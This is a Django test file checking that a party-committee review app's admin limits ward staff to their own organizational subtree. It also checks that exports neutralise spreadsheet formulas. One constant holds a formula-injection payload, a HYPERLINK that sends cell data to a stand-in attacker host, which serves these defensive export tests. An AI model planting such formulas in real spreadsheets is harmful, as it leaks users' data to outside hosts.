"""The admin is scoped like the pages (issue 13).

Staff of a lower committee (a ward) see and change only their subtree in
/admin/: changelists, change forms, history, autocompletes, the choices of a
form, exports and imports. Reference data is read by all and changed by the
superusers (regimes) or the staff of a superior committee (shared lists).
Ratings are read-only for everyone.
"""

import csv
import datetime
import io

import openpyxl
from django.conf import settings
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.db.models import Q
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone

from kontum_review.formsets import BoundedInlineFormSet
from members.models import Member
from organizations.models import Organization, OrganizationKind, Role
from reviews import services
from reviews.models import (
    CycleJob,
    Discipline,
    FocusArea,
    FormTemplate,
    Rating,
    Regime,
    Review,
    ReviewCycle,
)

from ..factories import MemberFactory, OrganizationFactory, UserFactory, grant
from ..members.test_admin_import import HEADERS as MEMBER_HEADERS
from ..members.test_admin_import import member_row
from ..organizations.test_admin_import import XLSX, xlsx_upload

CSV = "1"  # Index into settings.IMPORT_EXPORT_FORMATS.
FORMULA = '=HYPERLINK("http://attacker.example/?q="&A1,"Bấm vào đây")'


def admin_url(model, view="changelist", *args):
    meta = model._meta
    return reverse(f"admin:{meta.app_label}_{meta.model_name}_{view}", args=args)


def make_cycle(superior, name, year=2026):
    return ReviewCycle.objects.create(
        name=name,
        year=year,
        starts_on=datetime.date(year, 1, 1),
        ends_on=datetime.date(year, 12, 31),
        regime=Regime.objects.get(code="qd366"),
        superior=superior,
        self_review_due=datetime.date(year, 12, 15),
        meetings_due=datetime.date(year, 12, 31),
        decision_due=datetime.date(year + 1, 1, 20),
    )


def member_data(organization, **values):
    """The admin's member form, filled in, with no posts."""
    return {
        "full_name": "Phạm Thị Dung",
        "gender": "female",
        "date_of_birth": "1985-04-03",
        "card_number": "62009999",
        "citizen_id": "",
        "admitted_on": "2010-01-02",
        "full_member_on": "2011-01-02",
        "standing": "full",
        "status": "active",
        "status_note": "",
        "organization": organization.pk,
        "party_post": "",
        "government_post": "",
        "mass_post": "",
        "workplace": "",
        "email": "",
        "user": "",
        "posts-TOTAL_FORMS": "0",
        "posts-INITIAL_FORMS": "0",
        "posts-MIN_NUM_FORMS": "0",
        "posts-MAX_NUM_FORMS": "1000",
        **values,
    }


class AdminWorld(TestCase):
    """A city committee over two wards; staff of the city and of ward P01.

    Inside ward P01: cell A and its member; outside it: ward P02's cell C and
    its member. The city's cycle is open over both wards.
    """

    @classmethod
    def setUpTestData(cls):
        cls.committee = OrganizationFactory(
            code="TU",
            name="Thành ủy Kon Tum",
            kind=OrganizationKind.SUPERIOR_COMMITTEE,
            org_type=None,
        )
        cls.ward = OrganizationFactory(
            code="P01",
            name="Đảng bộ phường Quyết Thắng",
            kind=OrganizationKind.GRASSROOTS_COMMITTEE,
            parent=cls.committee,
        )
        cls.cell_a = OrganizationFactory(
            code="P01.A", name="Chi bộ Tổ dân phố 1", parent=cls.ward
        )
        cls.other_ward = OrganizationFactory(
            code="P02",
            name="Đảng bộ phường Thắng Lợi",
            kind=OrganizationKind.GRASSROOTS_COMMITTEE,
            parent=cls.committee,
        )
        cls.cell_c = OrganizationFactory(
            code="P02.C", name="Chi bộ Tổ dân phố 9", parent=cls.other_ward
        )

        # As the demo's staff group (members/demo/people.py create_accounts).
        group = Group.objects.create(name="Ban Tổ chức")
        group.permissions.set(
            Permission.objects.filter(
                Q(content_type__app_label__in=["organizations", "members", "reviews"])
                | Q(content_type__app_label="auth", content_type__model="user")
            )
        )
        cls.root = get_user_model().objects.create_superuser("root", password="x")
        cls.city_staff = UserFactory(username="city_staff", is_staff=True)
        cls.city_staff.groups.add(group)
        grant(cls.city_staff, cls.committee, Role.Kind.STAFF)
        cls.ward_staff = UserFactory(username="ward_staff", is_staff=True)
        cls.ward_staff.groups.add(group)
        cls.ward_staff_role = grant(cls.ward_staff, cls.ward, Role.Kind.STAFF)
        cls.secretary_a = UserFactory(username="secretary_a")
        cls.role_a = grant(cls.secretary_a, cls.cell_a, Role.Kind.SECRETARY)
        cls.secretary_c = UserFactory(username="secretary_c")
        cls.role_c = grant(cls.secretary_c, cls.cell_c, Role.Kind.SECRETARY)

        cls.member_a = MemberFactory(
            full_name="Nguyễn Văn Ân", organization=cls.cell_a, user=cls.secretary_a
        )
        cls.member_c = MemberFactory(full_name="Lê Đức Cường", organization=cls.cell_c)

        cls.cycle = make_cycle(cls.committee, "Kiểm điểm năm 2026 của Thành ủy")
        services.open_cycle(CycleJob.objects.create(cycle=cls.cycle))
        cls.ward_cycle = make_cycle(cls.ward, "Kiểm điểm năm 2026 của phường 1")
        cls.other_ward_cycle = make_cycle(cls.other_ward, "Kiểm điểm năm 2026 phường 2")
        cls.review_a = cls.cycle.reviews.get(member=cls.member_a)
        cls.review_c = cls.cycle.reviews.get(member=cls.member_c)
        level = cls.cycle.regime.levels.get(code="HTTNV")
        cls.rating_a, cls.rating_c = (
            Rating.objects.create(
                review=review, stage="self", level=level, set_at=timezone.now()
            )
            for review in (cls.review_a, cls.review_c)
        )
        cls.discipline_a, cls.discipline_c = (
            Discipline.objects.create(
                member=member, form="reprimand", decided_on=datetime.date(2026, 5, 1)
            )
            for member in (cls.member_a, cls.member_c)
        )

    def setUp(self):
        self.client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"

    def listed(self, model, **params):
        response = self.client.get(admin_url(model), params)
        self.assertEqual(response.status_code, 200)
        return set(response.context["cl"].queryset.values_list("pk", flat=True))


class ChangelistScopeTests(AdminWorld):
    def pairs(self):
        """(model, a row inside ward P01, a row outside it)."""
        return [
            (Organization, self.cell_a, self.cell_c),
            (Role, self.role_a, self.role_c),
            (Member, self.member_a, self.member_c),
            (Review, self.review_a, self.review_c),
            (Rating, self.rating_a, self.rating_c),
            (Discipline, self.discipline_a, self.discipline_c),
            (ReviewCycle, self.ward_cycle, self.other_ward_cycle),
        ]

    def test_ward_staff_list_only_their_subtree(self):
        self.client.force_login(self.ward_staff)
        for model, inside, outside in self.pairs():
            with self.subTest(model=model.__name__):
                listed = self.listed(model)
                self.assertIn(inside.pk, listed)
                self.assertNotIn(outside.pk, listed)

    def test_city_staff_and_superusers_list_both_wards(self):
        for user in (self.city_staff, self.root):
            self.client.force_login(user)
            for model, inside, outside in self.pairs():
                with self.subTest(user=user.username, model=model.__name__):
                    self.assertLessEqual({inside.pk, outside.pk}, self.listed(model))

    def test_ward_staff_read_the_city_cycle_their_reviews_belong_to(self):
        self.client.force_login(self.ward_staff)
        self.assertIn(self.cycle.pk, self.listed(ReviewCycle))
        self.assertNotIn(
            self.review_c.pk, self.listed(Review, cycle__id__exact=self.cycle.pk)
        )

    def test_a_filter_lists_only_the_rows_the_changelist_reaches(self):
        self.client.force_login(self.ward_staff)
        response = self.client.get(admin_url(Review))
        self.assertContains(response, self.cycle.name)
        self.assertNotContains(response, self.other_ward_cycle.name)

    def test_outside_rows_answer_404(self):
        self.client.force_login(self.ward_staff)
        for model, _inside, outside in self.pairs():
            # Rows written in bulk (the opened cycle's reviews) have no history.
            version = outside.history.first()
            urls = [
                admin_url(model, "change", outside.pk),
                admin_url(model, "delete", outside.pk),
                admin_url(model, "history", outside.pk),
                admin_url(
                    model, "simple_history", outside.pk, version.pk if version else 1
                ),
            ]
            for url in urls:
                # Ratings are never deleted here: refused before any lookup.
                refused = 403 if url.endswith("/delete/") and model is Rating else 404
                with self.subTest(url=url):
                    self.assertEqual(self.client.get(url).status_code, refused)

    def test_inside_rows_open(self):
        self.client.force_login(self.ward_staff)
        for model, inside, _outside in self.pairs():
            for view in ("change", "history"):
                url = admin_url(model, view, inside.pk)
                with self.subTest(url=url):
                    self.assertEqual(self.client.get(url).status_code, 200)

    def test_an_old_version_cannot_be_posted_back(self):
        self.client.force_login(self.ward_staff)
        version = self.member_a.history.first()
        url = admin_url(Member, "simple_history", self.member_a.pk, version.pk)
        response = self.client.post(url, {"full_name": "Đổi tên"})
        self.assertEqual(response.status_code, 403)
        self.member_a.refresh_from_db()
        self.assertEqual(self.member_a.full_name, "Nguyễn Văn Ân")

    def test_the_delete_action_reaches_only_the_subtree(self):
        self.client.force_login(self.ward_staff)
        response = self.client.post(
            admin_url(Discipline),
            {
                "action": "delete_selected",
                "_selected_action": [self.discipline_a.pk, self.discipline_c.pk],
                "post": "yes",
            },
        )
        self.assertEqual(response.status_code, 302)
        self.assertFalse(Discipline.objects.filter(pk=self.discipline_a.pk).exists())
        self.assertTrue(Discipline.objects.filter(pk=self.discipline_c.pk).exists())


class FormChoiceTests(AdminWorld):
    def test_the_form_offers_only_the_subtree(self):
        self.client.force_login(self.ward_staff)
        response = self.client.get(admin_url(Member, "add"))
        field = response.context["adminform"].form.fields["organization"]
        self.assertEqual(set(field.queryset), {self.ward, self.cell_a})

    def test_an_outside_organization_cannot_be_picked(self):
        self.client.force_login(self.ward_staff)
        response = self.client.post(admin_url(Member, "add"), member_data(self.cell_c))
        self.assertEqual(response.status_code, 200)
        self.assertIn("organization", response.context["adminform"].form.errors)
        self.assertFalse(Member.objects.filter(card_number="62009999").exists())

        response = self.client.post(admin_url(Member, "add"), member_data(self.cell_a))
        self.assertRedirects(response, admin_url(Member))
        self.assertEqual(
            Member.objects.get(card_number="62009999").organization, self.cell_a
        )

    def test_a_post_claiming_thousands_of_inline_rows_builds_a_bounded_few(self):
        """Django builds up to 2,000 inline forms for a crafted TOTAL_FORMS;
        the admin's inlines build the rows they have and 100 new ones, and
        refuse the post without writing, keeping what was typed."""
        self.client.force_login(self.ward_staff)
        member = MemberFactory(card_number="62009999", organization=self.cell_a)
        response = self.client.post(
            admin_url(Member, "change", member.pk),
            member_data(
                self.cell_a,
                full_name="Tên đã sửa",
                **{"posts-TOTAL_FORMS": "99999999999999999999"},
            ),
        )
        self.assertEqual(response.status_code, 200)
        (posts,) = response.context["inline_admin_formsets"]
        self.assertEqual(len(posts.formset.forms), BoundedInlineFormSet.added_max)
        (refused,) = posts.formset.non_form_errors().as_data()
        self.assertEqual(refused.code, "too_many_forms")
        self.assertContains(response, "Tên đã sửa")
        member.refresh_from_db()
        self.assertNotEqual(member.full_name, "Tên đã sửa")

    def test_a_member_admitted_before_birth_is_refused_next_to_the_field(self):
        self.client.force_login(self.ward_staff)
        response = self.client.post(
            admin_url(Member, "add"),
            member_data(
                self.cell_a,
                date_of_birth="2000-01-01",
                admitted_on="1990-01-01",
                full_member_on="1991-01-01",
            ),
        )
        self.assertEqual(response.status_code, 200)
        self.assertIn("admitted_on", response.context["adminform"].form.errors)
        self.assertContains(response, "1990-01-01")
        self.assertFalse(Member.objects.filter(card_number="62009999").exists())

    def test_a_member_is_not_moved_out_of_the_subtree(self):
        self.client.force_login(self.ward_staff)
        member = MemberFactory(card_number="62009999", organization=self.cell_a)
        response = self.client.post(
            admin_url(Member, "change", member.pk),
            member_data(self.cell_c, full_name=member.full_name),
        )
        self.assertEqual(response.status_code, 200)
        member.refresh_from_db()
        self.assertEqual(member.organization, self.cell_a)

    def test_an_organization_is_added_only_inside(self):
        self.client.force_login(self.ward_staff)
        data = {"code": "X1", "name": "Chi bộ mới", "kind": "cell", "org_type": ""}
        response = self.client.post(
            admin_url(Organization, "add"), {**data, "parent": self.other_ward.pk}
        )
        self.assertEqual(response.status_code, 200)
        self.assertFalse(Organization.objects.filter(code="X1").exists())

        response = self.client.post(
            admin_url(Organization, "add"), {**data, "parent": self.ward.pk}
        )
        self.assertRedirects(response, admin_url(Organization))
        self.assertEqual(Organization.objects.get(code="X1").parent, self.ward)

    def test_the_top_of_the_subtree_keeps_its_place(self):
        self.client.force_login(self.ward_staff)
        url = admin_url(Organization, "change", self.ward.pk)
        response = self.client.get(url)
        self.assertNotIn("parent", response.context["adminform"].form.fields)
        self.assertNotIn("kind", response.context["adminform"].form.fields)
        self.assertEqual(
            self.client.get(
                admin_url(Organization, "delete", self.ward.pk)
            ).status_code,
            403,
        )

        response = self.client.post(
            url,
            {
                "code": "P01",
                "name": "Đảng bộ phường Quyết Thắng (mới)",
                "kind": OrganizationKind.SUPERIOR_COMMITTEE,
                "parent": "",
                "org_type": self.ward.org_type_id,
            },
        )
        self.assertRedirects(response, admin_url(Organization))
        self.ward.refresh_from_db()
        self.assertEqual(self.ward.name, "Đảng bộ phường Quyết Thắng (mới)")
        self.assertEqual(self.ward.parent, self.committee)
        self.assertEqual(self.ward.kind, OrganizationKind.GRASSROOTS_COMMITTEE)

    def test_autocompletes_answer_only_the_subtree(self):
        self.client.force_login(self.ward_staff)
        for model_name, field_name, inside, outside in [
            ("member", "organization", self.cell_a, self.cell_c),
            ("post", "member", self.member_a, self.member_c),
            ("cycleexclusion", "member", self.member_a, self.member_c),
            ("review", "cycle", self.cycle, self.other_ward_cycle),
        ]:
            app_label = "members" if model_name in ("member", "post") else "reviews"
            with self.subTest(model=model_name, field=field_name):
                response = self.client.get(
                    reverse("admin:autocomplete"),
                    {
                        "app_label": app_label,
                        "model_name": model_name,
                        "field_name": field_name,
                        "term": "",
                    },
                )
                self.assertEqual(response.status_code, 200)
                ids = {result["id"] for result in response.json()["results"]}
                self.assertIn(str(inside.pk), ids)
                self.assertNotIn(str(outside.pk), ids)

    def test_the_city_cycle_is_read_only_for_ward_staff(self):
        self.client.force_login(self.ward_staff)
        response = self.client.get(admin_url(ReviewCycle, "change", self.cycle.pk))
        self.assertEqual(response.status_code, 200)
        self.assertNotContains(response, 'name="_save"')
        response = self.client.post(
            admin_url(ReviewCycle, "change", self.cycle.pk), {"name": "Đổi tên"}
        )
        self.assertEqual(response.status_code, 403)

        response = self.client.get(admin_url(ReviewCycle, "change", self.ward_cycle.pk))
        self.assertContains(response, 'name="_save"')

    def test_a_cycle_is_added_only_for_a_committee_the_user_keeps(self):
        self.client.force_login(self.ward_staff)
        response = self.client.get(admin_url(ReviewCycle, "add"))
        field = response.context["adminform"].form.fields["superior"]
        self.assertEqual(set(field.queryset), {self.ward, self.cell_a})


class ExportTests(AdminWorld):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.trap = OrganizationFactory(code="P01.X", name=FORMULA, parent=cls.ward)
        MemberFactory(
            full_name="@SUM(1+1)", card_number="62000077", organization=cls.trap
        )

    def export(self, model, file_format):
        data = {"format": file_format, "resource": "0"}
        resource = {Organization: "organizationresource", Member: "memberresource"}
        for field in response_fields(self, model):
            data[f"{resource[model]}_{field}"] = "on"
        response = self.client.post(admin_url(model, "export"), data)
        self.assertEqual(response.status_code, 200)
        return response.content

    def test_the_export_holds_only_the_subtree(self):
        self.client.force_login(self.ward_staff)
        sheet = openpyxl.load_workbook(
            io.BytesIO(self.export(Organization, XLSX))
        ).active
        codes = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
        self.assertEqual(codes, {"P01", "P01.A", "P01.X"})

        sheet = openpyxl.load_workbook(io.BytesIO(self.export(Member, XLSX))).active
        cards = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
        self.assertEqual(cards, {self.member_a.card_number, "62000077"})

    def test_text_like_a_formula_is_written_as_text(self):
        self.client.force_login(self.ward_staff)
        sheet = openpyxl.load_workbook(
            io.BytesIO(self.export(Organization, XLSX))
        ).active
        (cell,) = [
            row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "P01.X"
        ]
        self.assertEqual(cell.value, FORMULA)
        self.assertEqual(cell.data_type, "s")
        self.assertTrue(cell.quotePrefix)

        text = self.export(Member, CSV).decode("utf-8-sig")
        rows = {row[0]: row for row in csv.reader(io.StringIO(text))}
        self.assertEqual(rows["62000077"][1], "'@SUM(1+1)")

        text = self.export(Organization, CSV).decode("utf-8-sig")
        rows = {row[0]: row for row in csv.reader(io.StringIO(text))}
        self.assertEqual(rows["P01.X"][1], "'" + FORMULA)

    def test_a_csv_export_imports_back_unchanged(self):
        from organizations.resources import cell_text

        self.assertEqual(cell_text("'" + FORMULA), FORMULA)
        self.assertEqual(cell_text("'tên có nháy"), "'tên có nháy")


def response_fields(test, model):
    from members.resources import MemberResource
    from organizations.resources import OrganizationResource

    resource = {Organization: OrganizationResource, Member: MemberResource}[model]
    return resource().get_export_order()


class ImportTests(AdminWorld):
    admin_url = "/admin/members/member/"

    def preview(self, rows):
        upload = xlsx_upload([MEMBER_HEADERS, *rows])
        return self.client.post(
            f"{self.admin_url}import/",
            {"import_file": upload, "format": XLSX, "resource": "0"},
        )

    def test_ward_staff_import_members_only_into_their_subtree(self):
        self.client.force_login(self.ward_staff)
        response = self.preview([member_row(organization="P02.C")])
        self.assertNotIn("confirm_form", response.context)
        invalid = response.context["result"].invalid_rows
        self.assertEqual([row.number for row in invalid], [1])
        self.assertIn("outside the organizations you keep", str(invalid[0].error))

        response = self.preview([member_row(organization="P01.A")])
        self.assertIn("confirm_form", response.context)
        response = self.client.post(
            f"{self.admin_url}process_import/",
            response.context["confirm_form"].initial,
        )
        self.assertRedirects(response, self.admin_url)
        self.assertEqual(
            Member.objects.get(card_number="62000001").organization, self.cell_a
        )

    def test_an_outside_member_is_not_updated(self):
        self.client.force_login(self.ward_staff)
        row = member_row(card_number=self.member_c.card_number, organization="P01.A")
        response = self.preview([row])
        self.assertNotIn("confirm_form", response.context)
        self.member_c.refresh_from_db()
        self.assertEqual(self.member_c.organization, self.cell_c)

    def test_the_top_of_the_subtree_imports_back_with_its_parent(self):
        self.client.force_login(self.ward_staff)
        headers = ["code", "name", "kind", "org_type", "parent"]
        rows = [
            ["P01", self.ward.name, "grassroots_committee", "phuong", "TU"],
            ["P01.B", "Chi bộ mới", "cell", "phuong", "P01"],
            ["P01.B.1", "Tổ đảng 1", "party_group", "phuong", "P01.B"],
        ]
        response = self.client.post(
            "/admin/organizations/organization/import/",
            {
                "import_file": xlsx_upload([headers, *rows]),
                "format": XLSX,
                "resource": "0",
            },
        )
        self.assertIn("confirm_form", response.context)

        rows = [["P01", self.ward.name, "superior", "phuong", "TU"]]
        response = self.client.post(
            "/admin/organizations/organization/import/",
            {
                "import_file": xlsx_upload([headers, *rows]),
                "format": XLSX,
                "resource": "0",
            },
        )
        self.assertNotIn("confirm_form", response.context)


class ReferenceDataTests(AdminWorld):
    def test_regimes_are_read_by_staff_and_changed_by_superusers(self):
        regime = self.cycle.regime
        for user in (self.ward_staff, self.city_staff):
            self.client.force_login(user)
            with self.subTest(user=user.username):
                self.assertEqual(self.client.get(admin_url(Regime)).status_code, 200)
                response = self.client.get(admin_url(Regime, "change", regime.pk))
                self.assertEqual(response.status_code, 200)
                self.assertNotContains(response, 'name="_save"')
                self.assertEqual(
                    self.client.get(admin_url(Regime, "add")).status_code, 403
                )
        self.client.force_login(self.root)
        response = self.client.get(admin_url(Regime, "change", regime.pk))
        self.assertContains(response, 'name="_save"')

    def test_shared_lists_are_extended_by_the_staff_of_a_superior_committee(self):
        area = FocusArea.objects.first()
        self.client.force_login(self.city_staff)
        self.assertEqual(self.client.get(admin_url(FocusArea, "add")).status_code, 200)
        response = self.client.get(admin_url(FocusArea, "change", area.pk))
        self.assertContains(response, 'name="_save"')

        self.client.force_login(self.ward_staff)
        self.assertEqual(self.client.get(admin_url(FocusArea, "add")).status_code, 403)
        response = self.client.get(admin_url(FocusArea, "change", area.pk))
        self.assertEqual(response.status_code, 200)
        self.assertNotContains(response, 'name="_save"')

    def test_a_cycles_templates_are_changed_by_its_staff(self):
        regime_wide = FormTemplate.objects.filter(cycle=None).first()
        own = FormTemplate.objects.create(
            regime=self.cycle.regime,
            cycle=self.cycle,
            code="T-TU",
            title="Mẫu riêng",
            audience=FormTemplate.Audience.OTHER,
        )
        self.client.force_login(self.city_staff)
        for template, may_change in ((regime_wide, False), (own, True)):
            response = self.client.get(admin_url(FormTemplate, "change", template.pk))
            self.assertEqual(response.status_code, 200)
            self.assertEqual('name="_save"' in response.content.decode(), may_change)

        self.client.force_login(self.ward_staff)
        response = self.client.get(admin_url(FormTemplate, "change", own.pk))
        self.assertNotContains(response, 'name="_save"')
        other = FormTemplate.objects.create(
            regime=self.cycle.regime,
            cycle=self.other_ward_cycle,
            code="T-P02",
            title="Mẫu phường 2",
            audience=FormTemplate.Audience.OTHER,
        )
        listed = self.listed(FormTemplate)
        self.assertLessEqual({regime_wide.pk, own.pk}, listed)
        self.assertNotIn(other.pk, listed)


class RatingAdminTests(AdminWorld):
    def test_ratings_are_read_only_for_staff_and_superusers(self):
        for user in (self.ward_staff, self.city_staff, self.root):
            self.client.force_login(user)
            with self.subTest(user=user.username):
                url = admin_url(Rating, "change", self.rating_a.pk)
                response = self.client.get(url)
                self.assertEqual(response.status_code, 200)
                self.assertNotContains(response, 'name="_save"')
                self.assertEqual(self.client.post(url, {}).status_code, 403)
                self.assertEqual(
                    self.client.get(admin_url(Rating, "add")).status_code, 403
                )
                delete = admin_url(Rating, "delete", self.rating_a.pk)
                self.assertEqual(
                    self.client.post(delete, {"post": "yes"}).status_code, 403
                )
                response = self.client.get(
                    admin_url(Rating, "history", self.rating_a.pk)
                )
                self.assertEqual(response.status_code, 200)
        self.assertTrue(Rating.objects.filter(pk=self.rating_a.pk).exists())

    def test_the_delete_action_is_not_offered(self):
        self.client.force_login(self.root)
        response = self.client.get(admin_url(Rating))
        self.assertNotContains(response, 'value="delete_selected"')
        self.client.post(
            admin_url(Rating),
            {
                "action": "delete_selected",
                "_selected_action": [self.rating_a.pk],
                "post": "yes",
            },
        )
        self.assertTrue(Rating.objects.filter(pk=self.rating_a.pk).exists())


class AdminEntryTests(AdminWorld):
    def test_people_without_staff_status_do_not_enter_the_admin(self):
        login = reverse("admin:login")
        member = UserFactory(username="member_only")
        grant(member, self.cell_a, Role.Kind.MEMBER)
        for user in (self.secretary_a, member):
            self.client.force_login(user)
            for url in (reverse("admin:index"), admin_url(Member)):
                with self.subTest(user=user.username, url=url):
                    response = self.client.get(url)
                    self.assertEqual(response.status_code, 302)
                    self.assertTrue(response["Location"].startswith(login))
